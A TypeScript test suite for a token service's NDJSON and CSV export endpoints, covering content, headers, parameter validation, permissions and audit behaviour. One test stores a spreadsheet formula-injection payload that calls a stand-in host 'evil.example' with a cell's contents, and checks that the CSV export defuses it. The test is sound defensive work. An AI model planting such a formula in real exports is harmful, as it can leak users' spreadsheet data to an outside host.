// GET /api/v1/exports/…: what is in them, in both formats, and to whom. What makes them break off is tested with the faults.
import assert from 'node:assert/strict'
import { CELLS, COLUMNS, type Kept } from '../../../../testkit/services/export-tables.ts'
import { suite, test } from 'node:test'
import { csvHeader, csvLine } from '../../../src/domain/lists/csv.ts'
import { bindings } from '../../../src/http/admin/exports.ts'
import { admin, call } from '../../../../testkit/callers/administration.ts'
import { parseCsv } from '../../../../testkit/callers/csv.ts'
import { limitKey } from '../../../../testkit/stores/earlier-keys.ts'
import {
  type Answer,
  assertPlainHeaders,
  assertProblem,
  bearer,
  claimsOf,
  get,
  issue,
  revoke,
  send,
  sendBytes,
  sendJson,
} from '../../../../testkit/callers/requests.ts'
import { useService } from '../../../../testkit/services/service-fixture.ts'

const EXPORT_PAGE_RECORDS = 250

type Page = { readonly data: readonly Kept[]; readonly next_cursor: string | null }

const LISTS = {
  tokens: { list: '/api/v1/tokens', permission: 'tokens:read' },
  history: { list: '/api/v1/tokens/history', permission: 'tokens:read' },
  audit: { list: '/api/v1/audit', permission: 'audit:read' },
} as const

type Name = keyof typeof LISTS

const NAMES: readonly Name[] = ['tokens', 'history', 'audit']

/** More than one page of an export holds. */
const MANY = EXPORT_PAGE_RECORDS + 60
const [OURS, THEIRS] = ['https://ours.example', 'https://theirs.example']

const service = useService()
const agent = service.agent()
const keys = new Map<string, string>()

const headersFor = (name: Name) => ({ 'x-api-key': keys.get(LISTS[name].permission) ?? '' })

const exportAs = (name: Name, query = '', headers: Readonly<Record<string, string>> = headersFor(name)) =>
  get(service, `/api/v1/exports/${name}${query}`, headers)

const times = async (count: number, one: (n: number) => Promise<unknown>): Promise<void> => {
  for (let n = 0; n < count; n += 20) {
    await Promise.all(Array.from({ length: Math.min(20, count - n) }, (_, m) => one(n + m)))
  }
}

service.before(async () => {
  for (const permission of ['tokens:read', 'audit:read', 'tokens:revoke'] as const) {
    keys.set(permission, (await service.createApiKey(permission)).key)
  }
  const stopped = await service.createAgent()
  await times(MANY, async n => {
    await issue(service, agent, { resource: n % 3 === 0 ? OURS : THEIRS })
    if (n % 10 === 0) service.clock.advance(1)
  })
  await times(MANY, () => issue(service, stopped))
  await service.disableAgent(stopped.agentId)
  await times(MANY, () => service.createAgent())
})

const linesOf = ({ text }: Answer): readonly Kept[] =>
  text === ''
    ? []
    : text
        .slice(0, -1)
        .split('\n')
        .map(line => JSON.parse(line) as Kept)

/** Every record of the list, page by page. */
const listAll = async (name: Name, query = ''): Promise<readonly Kept[]> => {
  const all: Kept[] = []
  for (let cursor: string | null = ''; cursor !== null; ) {
    const from: string = cursor === '' ? '' : `&cursor=${encodeURIComponent(cursor)}`
    const answer = await get(service, `${LISTS[name].list}?limit=97${query}${from}`, headersFor(name))
    assert.equal(answer.status, 200, answer.text)
    const page = answer.json as Page
    all.push(...page.data)
    cursor = page.next_cursor
  }
  return all
}

for (const name of NAMES) {
  suite(`the export of ${name}`, () => {
    test('NDJSON: each line is a record, byte for byte as the pages of the list have them, and in their order', async () => {
      const [all, answer] = [await listAll(name), await exportAs(name)]
      assert.ok(all.length > EXPORT_PAGE_RECORDS, `only ${all.length} records`)
      assert.equal(answer.status, 200)
      assert.equal(answer.text, all.map(record => `${JSON.stringify(record)}\n`).join(''))
    })

    test('its headers: the media type, a file to keep, no length, and what every answer carries', async () => {
      for (const [query, type, file] of [
        ['', 'application/x-ndjson', `${name}.ndjson`],
        ['?format=ndjson', 'application/x-ndjson', `${name}.ndjson`],
        ['?format=csv', 'text/csv; charset=utf-8; header=present', `${name}.csv`],
      ] as const) {
        const answer = await exportAs(name, query)
        assert.equal(answer.headers['content-type'], type)
        assert.equal(answer.headers['content-disposition'], `attachment; filename="${file}"`)
        assert.equal(answer.headers['x-content-type-options'], 'nosniff')
        assert.equal(answer.headers['transfer-encoding'], 'chunked')
        assert.equal(answer.headers['content-length'], undefined)
        assertPlainHeaders(answer)
      }
    })

    test('CSV: a line of names and a line for each record of the list', async () => {
      const [all, answer] = [await listAll(name), await exportAs(name, '?format=csv')]
      const [head, ...rows] = parseCsv(answer.text)
      assert.deepEqual(head, COLUMNS[name])
      assert.deepEqual(rows, all.map(CELLS[name]))
    })

    test('nothing found: no line of NDJSON, and of CSV the names', async () => {
      const query = name === 'audit' ? 'kind=clock.reset' : 'client_id=nobody'
      assert.equal((await exportAs(name, `?${query}`)).text, '')
      assert.equal((await exportAs(name, `?format=csv&${query}`)).text, `${COLUMNS[name].join(',')}\r\n`)
    })
  })

  suite(`who asks for the export of ${name}, and how`, () => {
    test('HEAD as GET, without a body; and refused as GET is', async () => {
      const message = { method: 'HEAD', path: `/api/v1/exports/${name}?format=csv`, headers: headersFor(name) }
      const head = await send(service, message)
      assert.deepEqual([head.status, head.text], [200, ''])
      assert.equal(head.headers['content-type'], 'text/csv; charset=utf-8; header=present')
      assert.equal((await send(service, { ...message, headers: {} })).status, 401)
      assert.equal((await send(service, { ...message, path: `/api/v1/exports/${name}?format=xls` })).status, 400)
    })

    test('a reason or kind that is not known is refused with the known ones: an empty file could not say so', async () => {
      const filter = { tokens: null, history: 'termination_reason=expired,nope', audit: 'kind=agent.disabel' }[name]
      if (filter === null) return
      const { status, json } = await exportAs(name, `?${filter}`)
      const { error, error_description } = json as Kept
      assert.deepEqual([status, error], [400, 'invalid_request'])
      assert.match(
        String(error_description),
        /^(termination_reason is not a comma list of expired, |kind is not one of agent\.change, )/,
      )
    })

    test('a malformed, an empty, a repeated and an unknown parameter is refused by its name', async () => {
      for (const [query, description] of [
        ['format=xls', 'format is not one of ndjson, csv.'],
        ['format=CSV', 'format is not one of ndjson, csv.'],
        ['format=', 'format is empty: give it a value, or leave it out.'],
        ['format=csv&format=csv', 'format is given more than once.'],
        ['limit=10', 'limit is not a parameter of this operation.'],
        ['cursor=x', 'cursor is not a parameter of this operation.'],
        ['agent=x', 'agent is not a parameter of this operation.'],
      ] as const) {
        assertProblem(await exportAs(name, `?${query}`), 400, 'invalid_request', description)
      }
    })

    test('another method is 405 with Allow', async () => {
      const answer = await send(service, { method: 'POST', path: `/api/v1/exports/${name}` })
      assert.deepEqual([answer.status, answer.headers['allow']], [405, 'GET, HEAD'])
    })

    test('HTTP/1.0, in which a part of it would look whole, is refused', async () => {
      const [key] = Object.values(headersFor(name))
      const answer = await sendBytes(service, `GET /api/v1/exports/${name} HTTP/1.0\r\nX-API-Key: ${key}\r\n\r\n`)
      assert.match(answer, /^HTTP\/1\.1 400 Bad Request\r\n/)
      assert.match(answer, /"detail":"Ask with HTTP\/1\.1: /)
    })

    test('an operator is given the same as an API key that may read agents', async () => {
      const jwt = await service.provider.operatorJwt({ role: 'mintmark-operator' })
      const body = { name: `reader of ${name}`, permissions: [LISTS[name].permission, 'agents:read'] }
      const made = await call(service, { method: 'POST', path: '/api/v1/api-keys', body }, await admin(service))
      const { api_key: key } = made.json as { readonly api_key: string }
      const [ours, theirs] = [await exportAs(name, '', bearer(jwt)), await exportAs(name, '', { 'x-api-key': key })]
      assert.equal(ours.text, theirs.text)
    })
  })
}

suite('filters', () => {
  test('an export takes those of its list, and holds what that would show', async () => {
    const ended = '&termination_reason=agent_disabled,manual_revocation&ended_after=2020-01-01T00:00:00.000Z'
    for (const [name, query] of [
      ['tokens', `&agent_id=${agent.agentId}`],
      ['tokens', '&scope=db:read&issued_before=2020-01-01T00:00:00.000Z'],
      ['history', ended],
      ['audit', '&kind=agent.create&actor_type=cli&actor_id=tester'],
    ] as const) {
      assert.deepEqual(linesOf(await exportAs(name, `?${query.slice(1)}`)), await listAll(name, query), query)
    }
  })

  test('an API key limited to audiences exports what its lists show, and no audit', async () => {
    const { key } = await service.createApiKey('tokens:read', [OURS])
    const lines = linesOf(await exportAs('tokens', '', { 'x-api-key': key }))
    assert.equal(lines.length, Math.ceil(MANY / 3))
    assert.ok(lines.every(({ audience }) => (audience as readonly string[]).includes(OURS)))
    assert.equal((await exportAs('history', '', { 'x-api-key': key })).text, '')
    const limited = await service.createApiKey('audit:read')
    limitKey(service.storeFile, limited.id, [OURS])
    const whole = 'This API key is limited to audiences, and may not read the audit log.'
    assertProblem(await exportAs('audit', '', { 'x-api-key': limited.key }), 403, 'insufficient_scope', whole)
  })
})

test('what somebody wrote into a note or a name is no formula in CSV, and as it was in NDJSON', async () => {
  const note = '=HYPERLINK("https://evil.example?"&A1;"x"),;+1'
  const token = await issue(service, agent)
  const id = String(claimsOf(token)['jti'])
  const answer = await sendJson(service, 'POST', `/api/v1/tokens/${id}/revoke`, {
    body: { note },
    headers: { 'x-api-key': keys.get('tokens:revoke') ?? '' },
  })
  assert.equal(answer.status, 200, answer.text)
  const sub = '@sum(1)'
  const other = await issue(service, agent)
  const jwt = await service.provider.operatorJwt({ sub })
  await send(service, {
    method: 'POST',
    path: '/oauth/revoke',
    headers: { ...bearer(jwt), 'content-type': 'application/x-www-form-urlencoded' },
    body: `token=${other}`,
  })
  for (const name of ['history', 'audit'] as const) {
    const [, ...rows] = parseCsv((await exportAs(name, '?format=csv')).text)
    const [notes, subs] = [COLUMNS[name].indexOf('note'), COLUMNS[name].findIndex(column => column.endsWith('_sub'))]
    assert.equal(rows.filter(row => row[notes] === `'=HYPERLINK("https://evil.example?"&A1;"x"),;'+1`).length, 1)
    assert.equal(rows.filter(row => row[subs] === `'${sub}`).length, 1)
    assert.equal(linesOf(await exportAs(name)).filter(record => record['note'] === note).length, 1)
  }
})

test('a token that ends while its export runs is in it or in the history, and none is in neither', async () => {
  const token = await issue(service, agent)
  const id = claimsOf(token)['jti']
  const live = linesOf(await exportAs('tokens'))
  await revoke(service, token)
  const ended = linesOf(await exportAs('history'))
  assert.ok(live.some(record => record['id'] === id))
  assert.ok(ended.some(record => record['id'] === id))
  assert.ok(!linesOf(await exportAs('tokens')).some(record => record['id'] === id))
})

for (const { row, columns } of bindings) {
  test(`the table in the example of ${row.id} is that of its record`, () => {
    const { answer, text } = row.example ?? {}
    assert.equal(text, csvHeader(columns) + csvLine(columns, answer as never))
  })
}

test('a read is not in the audit', async () => {
  const audit = (await exportAs('audit')).text
  for (const name of NAMES) await exportAs(name)
  assert.equal((await exportAs('audit')).text, audit)
})
